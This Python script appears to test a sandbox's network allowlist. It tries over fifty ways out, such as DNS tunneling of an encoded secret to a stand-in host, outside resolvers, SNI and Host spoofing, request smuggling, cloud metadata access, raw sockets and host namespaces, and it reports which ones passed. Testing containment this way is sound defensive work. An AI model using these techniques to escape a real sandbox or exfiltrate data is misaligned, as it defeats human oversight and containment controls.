"""Tries every way out of a sandbox that we know of and prints what came of each as one JSON object.

Listed are good.example (80, 443), *.sub.example and ssh.example:22. A way that got through says so with "PASSED".
"""

import json
import os
import socket
import ssl
import struct
import sys
import time

PROXY = ("127.0.0.1", 3128)
PATIENCE = 15


def connect(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    stream = socket.socket(family, kind)
    stream.settimeout(PATIENCE)
    stream.connect(address)
    return stream


def is_refusal(got):
    """Whether it is a whole answer that refuses: the connection may stay open after it."""
    head, _, body = got.partition(b"\r\n\r\n")
    length = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length: ")]
    return got.startswith(b"HTTP/1.1 4") and bool(length) and len(body) >= int(length[0].split()[1])


def read(stream):
    """Everything up to the end, or what came before an error."""
    got = b""
    try:
        while True:
            part = stream.recv(65536)
            if not part:
                return got
            got += part
            if b"PASSED" in got or is_refusal(got):
                return got
    except OSError as error:
        return got + b" " + str(error).encode()


def ask(stream, text):
    try:
        stream.sendall(text if isinstance(text, bytes) else text.encode())
    except OSError as error:
        return str(error)
    return read(stream).decode(errors="replace")


def get(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


def through_proxy(text):
    return ask(connect(PROXY), text)


def tunnel(target):
    stream = connect(PROXY)
    stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        part = stream.recv(1)
        if not part:
            break
        head += part
    return stream, head.decode(errors="replace")


def connected(target):
    """What a CONNECT and a TLS greeting come to."""
    stream, head = tunnel(target)
    if " 200 " not in head:
        return head
    name = target.rsplit(":", 1)[0]
    return ask(stream, hello(name))


def hello(name):
    """A ClientHello for this server."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def look_up(name):
    return socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]


def to(name, port, text):
    return ask(connect((look_up(name), port)), text)


def question(name, kind, server=("127.0.0.1", 53)):
    """A question to DNS by hand; says how many answers came, or the error code."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    packet = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
    stream = connect(server, kind=socket.SOCK_DGRAM)
    stream.send(packet)
    answer = stream.recv(4096)
    _, flags, _, answers, _, _ = struct.unpack(">6H", answer[:12])
    return f"PASSED with {answers} answers" if answers else f"code {flags & 15}"


def keep_alive():
    stream = connect((look_up("good.example"), 80))
    stream.sendall(b"GET /first HTTP/1.1\r\nHost: good.example\r\n\r\n")
    first = stream.recv(65536)
    if b"200" not in first:
        return f"no first answer: {first!r}"
    return ask(stream, get("evil.example"))


def redirected():
    """Follows a redirect as a client would."""
    answer = through_proxy(get("good.example").replace("GET /", "GET http://good.example/redirect", 1))
    if "Location: http://evil.example/" not in answer and "location: http://evil.example/" not in answer:
        return f"no redirect: {answer}"
    return through_proxy(get("evil.example").replace("GET /", "GET http://evil.example/", 1))


def smuggled():
    """Two lengths in one request, and a second request behind it."""
    inner = get("evil.example", "/smuggled")
    text = (
        "POST /outer HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        f"0\r\n\r\n{inner}"
    )
    answer = ask(connect((look_up("good.example"), 80)), text)
    return answer.replace("PASSED /outer good.example", "")


def raw(*kind):
    socket.socket(*kind)
    return "PASSED: opened"


def datagram(address):
    stream = connect(address, kind=socket.SOCK_DGRAM)
    stream.send(b"x")
    return f"PASSED {stream.recv(9)!r}"


def new_route():
    """Asks the kernel for another route."""
    stream = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    stream.settimeout(PATIENCE)
    body = struct.pack("=8BI", socket.AF_INET, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
    stream.send(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
    error = -struct.unpack("=i", stream.recv(4096)[16:20])[0]
    return os.strerror(error) if error else "PASSED: a route"


def host_namespace():
    for process in os.listdir("/proc"):
        if process.isdigit():
            try:
                os.open(f"/proc/{process}/ns/net", os.O_RDONLY)
            except OSError:
                continue
            if os.readlink(f"/proc/{process}/ns/net") != os.readlink("/proc/self/ns/net"):
                return "PASSED: another network"
    return "only our own"


GOOD = "http://good.example"
WAYS = {
    "name_not_listed_by_connect": lambda: connected("evil.example:443"),
    "name_not_listed_by_proxy": lambda: through_proxy(get("evil.example").replace("/", "http://evil.example/", 1)),
    "name_not_listed_by_dns": lambda: "PASSED " + look_up("evil.example"),
    "dns_tunnel_by_name": lambda: question("c2VjcmV0.tunnel.example", 1),
    "dns_tunnel_by_txt": lambda: question("c2VjcmV0.tunnel.example", 16),
    "dns_txt_of_a_listed_name": lambda: question("good.example", 16),
    "dns_server_outside": lambda: question("good.example", 1, ("8.8.8.8", 53)),
    "dns_over_tcp_outside": lambda: ask(connect(("8.8.8.8", 53)), b"\0\x1d"),
    "dns_over_tls_outside": lambda: ask(connect(("1.1.1.1", 853)), hello("one.example")),
    "address_by_connect": lambda: connected("93.184.216.34:443"),
    "address_directly": lambda: ask(connect(("93.184.216.34", 443)), hello("evil.example")),
    "address_in_the_clear": lambda: ask(connect(("93.184.216.34", 80)), get("93.184.216.34")),
    "address_as_a_number": lambda: connected("1572395042:443"),
    "address_in_hexadecimal": lambda: connected("0x5db8d822:443"),
    "ipv6_directly": lambda: ask(connect(("2606:2800:220:1::1", 443), socket.AF_INET6), hello("evil.example")),
    "ipv6_by_connect": lambda: connected("[2606:2800:220:1::1]:443"),
    "ipv4_in_ipv6": lambda: ask(connect(("::ffff:93.184.216.34", 443), socket.AF_INET6), hello("evil.example")),
    "other_port_directly": lambda: ask(connect((look_up("good.example"), 8080)), get("good.example:8080")),
    "other_port_by_connect": lambda: connected("good.example:25"),
    "ssh_of_a_host_listed_without_it": lambda: to("good.example", 22, "SSH-2.0-x\r\n"),
    "quic": lambda: datagram(("93.184.216.34", 443)),
    "udp": lambda: datagram(("93.184.216.34", 9)),
    "sni_of_another": lambda: to("good.example", 443, hello("evil.example")),
    "sni_of_another_in_a_tunnel": lambda: ask(tunnel("good.example:443")[0], hello("evil.example")),
    "sni_of_another_at_port_80": lambda: to("good.example", 80, hello("evil.example")),
    "garbage_at_443": lambda: to("good.example", 443, b"\0\1\2\3" * 64),
    "host_of_another": lambda: to("good.example", 80, get("evil.example")),
    "host_of_another_by_proxy": lambda: through_proxy(get("evil.example").replace("/", f"{GOOD}/", 1)).replace(
        "PASSED / good.example", ""
    ),
    "host_of_another_in_a_tunnel": lambda: ask(tunnel("good.example:80")[0], get("evil.example")),
    "two_hosts": lambda: to("good.example", 80, get("good.example\r\nHost: evil.example")),
    "host_with_a_user": lambda: to("good.example", 80, get("good.example@evil.example")),
    "keep_alive_for_another": keep_alive,
    "redirect": redirected,
    "smuggling": smuggled,
    "upgrade_of_another": lambda: to(
        "good.example", 80, get("evil.example").replace("Connection: close", "Connection: upgrade\r\nUpgrade: websocket")
    ),
    "name_in_capitals_with_a_dot": lambda: connected("EVIL.example.:443"),
    "name_that_ends_alike": lambda: connected("evilgood.example:443"),
    "name_that_begins_alike": lambda: connected("good.example.evil.example:443"),
    "suffix_itself": lambda: connected("sub.example:443"),
    "name_that_leads_to_loopback": lambda: connected("loopback.sub.example:443"),
    "name_that_leads_to_a_private_network": lambda: connected("private.sub.example:443"),
    "name_that_leads_to_metadata": lambda: connected("metadata.sub.example:443"),
    "proxy_itself": lambda: connected("127.0.0.1:3128"),
    "localhost": lambda: connected("localhost:80"),
    "zero_address": lambda: connected("0.0.0.0:80"),
    "model_by_the_proxy": lambda: connected("127.0.0.1:7000"),
    "metadata_directly": lambda: ask(connect(("169.254.169.254", 80)), get("169.254.169.254")),
    "ftp_by_proxy": lambda: through_proxy(get("good.example").replace("/", "ftp://good.example/", 1)),
    "abstract_socket": lambda: ask(connect("\0" + sys.argv[1], socket.AF_UNIX), "x"),
    "host_loopback": lambda: ask(connect(("127.0.0.1", int(sys.argv[2]))), get("good.example")),
    "raw_ip": lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "raw_packets": lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, 3),
    "raw_tcp": lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
    "vsock": lambda: ask(connect((2, 1024), socket.AF_VSOCK), "x"),
    "new_route": new_route,
    "host_namespace": host_namespace,
}

results = {}
for name, way in WAYS.items():
    since = time.monotonic()
    try:
        came = way()
    except OSError as error:
        came = f"{type(error).__name__}: {error}"
    results[name] = {"came": came[:400], "seconds": round(time.monotonic() - since, 2)}
print(json.dumps(results))
